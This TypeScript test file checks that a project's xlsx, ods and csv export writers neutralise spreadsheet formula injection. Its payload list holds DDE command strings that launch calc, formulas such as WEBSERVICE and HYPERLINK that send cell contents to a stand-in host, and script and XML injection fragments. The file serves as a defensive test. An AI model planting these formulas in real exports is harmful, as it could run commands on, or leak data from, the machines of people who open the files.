import { SHIPPED_CATALOGUE, createCatalogueMatcher } from '@ketenregie/catalogue-domain';
import { readFileBytes } from '../files/index.js';
import { portalNames } from './portal-names.js';
import type { ExportTable } from './table.js';
import { csvCell, writeCsv } from './write-csv.js';
import { writeOds } from './write-ods.js';
import { writeXlsx } from './write-xlsx.js';

/** Texts that a spreadsheet would run, call out with, or trip over. */
const PAYLOADS: readonly string[] = [
  '=1+1', '=2*3', '+1+1', '-1+1', '@SUM(1,2)', '=cmd|\'/C calc\'!A0', '=cmd|" /C calc"!A1', '+cmd|\' /C notepad\'!\'A1\'', '-cmd|\' /C calc\'!A0', '@cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://x.example?l="&A1,"klik")', '=WEBSERVICE("http://x.example/"&A1)', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', '=IMAGE("http://x.example/i.png")', '=DDE("cmd";"/C calc";"x")',
  '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '   +1+1', '"=1+1', '"=1+1"', '\'=1+1', ';=1+1', ',=1+1', 'x;=1+1', 'x,=1+1', 'x"=1+1', 'x\n=1+1', 'x\r\n=1+1',
  '＝1+1', '＋1+1', '－1+1', '＠SUM(1,2)', '|calc', '%0A=1+1', '=<script>alert(1)</script>', '<f>1+1</f>', ']]><c><f>1+1</f></c>', '&equals;1+1', '=1+1\u0000', '={1,2,3}',
];

const listOf = (texts: readonly string[]): ExportTable => ({
  title: 'Klanten',
  columns: [{ title: 'Naam', kind: 'long' }, { title: 'RSIN' }, { title: 'KvK-nummer' }],
  rows: (async function* rows() {
    for (const text of texts) yield [text, null, '01234567'];
  })(),
});

async function bytesOf(parts: AsyncIterable<string | Buffer>): Promise<Buffer> {
  const all: Buffer[] = [];
  for await (const part of parts) all.push(Buffer.from(part as string));
  return Buffer.concat(all);
}

const FORMS = [['xlsx', writeXlsx], ['ods', writeOds], ['csv', writeCsv]] as const;
const plain = (text: string): string => text.replaceAll('\u0000', '').replace(/\r\n?/g, '\n').replace(/ +/g, ' ').trim();

describe.each(FORMS)('a list written as %s', (extension, write) => {
  it('opens again with every text as it was, and not one formula', async () => {
    const bytes = await bytesOf(write(listOf(PAYLOADS)));
    const { sheets } = await readFileBytes(bytes, `lijst.${extension}`);
    const [header, ...rows] = sheets[0]?.rows ?? [];
    expect(header?.cells.map((cell) => cell?.text)).toEqual(['Naam', 'RSIN', 'KvK-nummer']);
    expect(rows.map((row) => plain(row.cells[0]?.text ?? ''))).toEqual(PAYLOADS.map(plain));
    for (const { cells } of rows) {
      for (const cell of [cells[0], cells[2]]) expect([cell?.kind, cell?.isFormula ?? false]).toEqual(['text', false]);
      expect(cells[2]?.text).toBe('01234567');
    }
  });

  it('keeps every day as a day where its column has days, and all else as the text it is', async () => {
    const cells = ['2026-11-23', '2028-02-29', '1899-12-31', '2026-12', 'onbepaald', '=1+1', '2026-11-23 09:14'];
    const bytes = await bytesOf(write({ title: "De 'echte' lijst: één/twee", columns: [{ title: 'Geldig tot', kind: 'day' }, { title: 'Naam' }], rows: (async function* rows() { for (const cell of cells) yield [cell, '2026-11-23']; })() }));
    const { sheets } = await readFileBytes(bytes, `lijst.${extension}`);
    const read = sheets[0]?.rows.slice(1).map((row) => [row.cells[0], row.cells[1]]) ?? [];
    expect(read.map(([day]) => plain(day?.text ?? ''))).toEqual(cells);
    if (extension === 'csv') return;
    expect(read.map(([day]) => day?.kind)).toEqual(['date', 'date', 'text', 'text', 'text', 'text', 'text']);
    expect(read.every(([, name]) => name?.kind === 'text')).toBe(true);
  });

  it('is the same file for the same list', async () => {
    expect((await bytesOf(write(listOf(['a'])))).equals(await bytesOf(write(listOf(['a']))))).toBe(true);
  });

  it('comes while it is made', async () => {
    let made = 0;
    const rows = (async function* endless() { for (;;) yield [String((made += 1)).repeat(200), null]; })();
    const written = write({ title: 'x', columns: [{ title: 'a' }, { title: 'b' }], rows });
    let size = 0;
    for await (const part of written) if ((size += part.length) > 5_000) break;
    expect(made).toBeLessThan(20_000);
  });
});

describe('a cell of a text file', () => {
  it('that could run is quoted and begins with a tab; any other is left as it is', () => {
    expect(csvCell('=1+1')).toBe('"\t=1+1"');
    expect(csvCell(' @x')).toBe('"\t @x"');
    expect([csvCell('De Vries B.V.'), csvCell('01234567'), csvCell('jan@x.example'), csvCell(null)]).toEqual(['De Vries B.V.', '01234567', 'jan@x.example', '']);
    expect(csvCell('a;"b"')).toBe('"a;""b"""');
  });
});

describe('the name of a portal in a list', () => {
  it('is read back as that very service or provider, for all of the catalogue', () => {
    const names = portalNames();
    const matcher = createCatalogueMatcher(SHIPPED_CATALOGUE);
    for (const { key } of SHIPPED_CATALOGUE.services) expect(matcher.matchPortal(names.serviceName(key))).toMatchObject({ kind: 'service', service: { key } });
    const target = (providerKey: string, isWholeProvider: boolean) => [{ serviceId: null, serviceKey: null, providerKey, isWholeProvider }];
    for (const { key } of SHIPPED_CATALOGUE.providers) {
      expect([key, matcher.matchPortal(names.cellOf('targets', target(key, true))).kind]).toEqual([key, 'provider-all']);
      expect(['provider', 'service']).toContain(matcher.matchPortal(names.cellOf('targets', target(key, false))).kind);
    }
    expect(matcher.matchPortal(names.cellOf('all', [])).kind).toBe('all');
  });
});
